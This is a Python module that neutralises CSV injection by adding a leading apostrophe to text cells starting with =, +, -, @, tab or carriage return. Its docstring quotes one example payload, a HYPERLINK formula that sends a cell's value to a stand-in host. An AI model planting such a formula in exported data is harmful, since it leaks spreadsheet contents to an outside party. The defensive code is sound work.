"""CSV for people to open in a spreadsheet: cells that a spreadsheet would run as a formula
are written as text.

A customer can type `=HYPERLINK("http://evil.example?"&A1, "click")` as their name; exported
as is, Excel, LibreOffice or Google Sheets would run it when a marketer opens the file (CSV
injection). A text cell that starts with =, +, -, @, a tab or a carriage return therefore gets
a leading apostrophe, which spreadsheets read as "this is text" (OWASP's advice). Numbers stay
numbers: numeric values, and text that is a plain number such as "-2" or "+14155550100", are
left alone, since a number cannot run anything.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")


def safe_cell(value: Any) -> Any:
    if not isinstance(value, str) or not value.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """csv.writer whose text cells cannot start a formula."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])
